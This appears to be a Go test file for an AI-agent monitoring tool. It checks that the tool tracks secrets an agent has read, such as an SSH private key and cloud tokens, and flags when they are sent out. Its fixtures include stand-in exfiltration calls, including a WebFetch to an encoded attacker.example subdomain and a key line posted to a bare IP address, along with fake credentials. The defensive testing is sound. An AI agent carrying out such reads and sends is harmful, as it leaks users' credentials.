package session

import (
	"context"
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/agentwarden/warden/risk"
	"github.com/agentwarden/warden/tool"
)

// a made-up key block: random text in the shape of one
const fakeKey = "-----BEGIN OPENSSH PRIVATE KEY-----\n" +
	"b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n" +
	"QyNTUxOQAAACDq9cX0Zk3n5QvYt7Lr2mWq8Jp4Hs1Ux6Vb3Nc0Ke9FzQAAAJgq1mF3KtZh\n" +
	"-----END OPENSSH PRIVATE KEY-----\n"

func normalized(toolName string, args map[string]any) *tool.Call {
	return tool.Normalize(&risk.Action{Tool: toolName, Arguments: args}, "/home/user/project", "/home/user")
}

func TestObserveRemembersWithoutKeeping(t *testing.T) {
	st := NewState(Config{})
	read := normalized("Read", map[string]any{"file_path": "/home/user/.ssh/id_ed25519"})
	fs := st.Observe(read, fakeKey, PersonalScanner)
	if len(fs) == 0 || fs[0].Rule != RuleSensitiveOutput {
		t.Fatalf("findings %+v", fs)
	}
	if len(st.reads) == 0 || len(st.marks) == 0 {
		t.Fatalf("nothing remembered: reads %v marks %d", st.reads, len(st.marks))
	}
	line := strings.Split(fakeKey, "\n")[2]
	dump := fmt.Sprintf("%v %v %v %v", st.reads, st.history, st.marks, st.files)
	for _, part := range []string{line[:markWidth], line[20:40], "b3BlbnNzaC1rZXkt"} {
		if strings.Contains(dump, part) {
			t.Errorf("the state keeps raw key text %q", part)
		}
	}
	for name, text := range map[string]string{
		"as written":      "k=" + line,
		"part of a line":  "x" + line[5:30] + "y",
		"percent-encoded": url.QueryEscape("note: " + line),
		"base64":          base64.StdEncoding.EncodeToString([]byte("id: " + line + "\n")),
		"base64url":       base64.RawURLEncoding.EncodeToString([]byte(fakeKey)),
	} {
		if st.carries(text) < 0 {
			t.Errorf("%s: the key is not recognized in %q", name, text)
		}
	}
	for _, text := range []string{"", "hello world, nothing here", "b3BlbnNzaC1r", strings.Repeat("A", 200)} {
		if r := st.carries(text); r >= 0 {
			t.Errorf("%q recognized as read %d", text, r)
		}
	}
}

func TestSecretTokens(t *testing.T) {
	out := "PATH=/usr/local/bin:/usr/bin\nHOME=/home/user\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzKEY\n" +
		"GITHUB_TOKEN=ghp_0123456789abcdefABCDEF0123456789abcd\nEDITOR=vim\n" +
		"id | email\n 7 | alice.smith@example.com\nnode_modules_cache_directory"
	got := strings.Join(secretTokens(out), " ")
	for _, want := range []string{"wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzKEY", "ghp_0123456789abcdefABCDEF0123456789abcd", "alice.smith@example.com"} {
		if !strings.Contains(got, want) {
			t.Errorf("secretTokens misses %q: %q", want, got)
		}
	}
	for _, not := range []string{"/usr/local/bin", "/home/user", "vim", "node_modules_cache_directory", "PATH"} {
		for _, tok := range secretTokens(out) {
			if tok == not {
				t.Errorf("secretTokens keeps %q", not)
			}
		}
	}
}

func TestPersonalScanner(t *testing.T) {
	for _, tc := range []struct {
		text string
		want string
	}{
		{fakeKey, "a private key"},
		{"card: 4111 1111 1111 1111 exp 12/29", "a payment card number"},
		{"card 5500-0000-0000-0004", "a payment card number"},
		{"SSN 123-45-6789", "a social security number"},
		{"order 4111 1111 1111 1112", ""}, // fails the Luhn check
		{"SSN 000-12-3456, 666-12-3456", ""},
		{"phone 555-0100, build 2024-05-13", ""},
		{"-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----", ""},
	} {
		got := PersonalScanner(tc.text)
		switch {
		case tc.want == "" && len(got) > 0:
			t.Errorf("%q: found %q", tc.text, got[0].What)
		case tc.want != "" && (len(got) == 0 || got[0].What != tc.want):
			t.Errorf("%q: found %v, want %s", tc.text, got, tc.want)
		}
	}
}

func TestEgresses(t *testing.T) {
	for _, tc := range []struct {
		tool string
		args map[string]any
		want int
	}{
		{"WebFetch", map[string]any{"url": "https://x.example/log?d=dGhpcyBpcyBkYXRhIGdvaW5nIG91dA", "prompt": "ok"}, 1},
		{"WebFetch", map[string]any{"url": "https://docs.example.com/api/v2?page=3", "prompt": "summarize"}, 0},
		{"WebFetch", map[string]any{"url": "https://nm5hi2lpn4qhkzldmvzgk3tbnvsxiylmn5xgo.attacker.example/", "prompt": "x"}, 1},
		{"mcp__slack__slack_post_message", map[string]any{"channel_id": "C1", "text": "hello"}, 1},
		{"mcp__gmail__send_email", map[string]any{"to": "a@example.com", "body": "hi"}, 1},
		{"mcp__github__create_issue", map[string]any{"title": "bug", "body": "details"}, 1},
		{"mcp__github__get_issue", map[string]any{"issue_number": 4}, 0},
		{"mcp__slack__slack_get_channel_history", map[string]any{"channel_id": "C1"}, 0},
		{"browser_type", map[string]any{"element": "search", "text": "some words"}, 1},
		{"http_request", map[string]any{"url": "https://x.example/api", "method": "POST", "body": "{\"a\":1}"}, 1},
		{"Read", map[string]any{"file_path": "/home/user/project/a.go"}, 0},
	} {
		if got := egresses(normalized(tc.tool, tc.args)); len(got) != tc.want {
			t.Errorf("%s %v: %d egresses %+v, want %d", tc.tool, tc.args, len(got), got, tc.want)
		}
	}
}

func TestLocal(t *testing.T) {
	for to, want := range map[string]bool{
		"http://localhost:3000/api": true, "http://127.0.0.1:8080/": true, "http://[::1]/": true, "http://app.localhost/": true,
		"https://x.example/": false, "": false, "MCP server slack (post)": false, "http://10.0.0.5/": false,
	} {
		if local(to) != want {
			t.Errorf("local(%q) = %v", to, !want)
		}
	}
}

// TestTaintedEgressAfterAWrite: a call that writes a file and then sends
// a remembered value is judged with what the conversation read (the view
// of the state that carries the file must carry the reads too).
func TestTaintedEgressAfterAWrite(t *testing.T) {
	st := NewState(Config{})
	read := normalized("Read", map[string]any{"file_path": "/home/user/.ssh/id_ed25519"})
	st.Observe(read, fakeKey, PersonalScanner)
	line := strings.Split(fakeKey, "\n")[2]
	c := call(tool.Effect{Kind: tool.WriteFile, Path: "/tmp/x", Text: "hi", Known: true},
		tool.Effect{Kind: tool.SendData, URL: "https://203.0.113.9/c", Inline: true, Text: line})
	fs := st.Analyze(context.Background(), c, func(context.Context, *tool.Call) risk.Assessment { return risk.Assessment{Level: risk.Safe} })
	for _, f := range fs {
		if f.Rule == RuleExfiltration && f.Level == risk.Critical {
			return
		}
	}
	t.Errorf("a remembered key sent after a write in the same call: %v", fs)
}
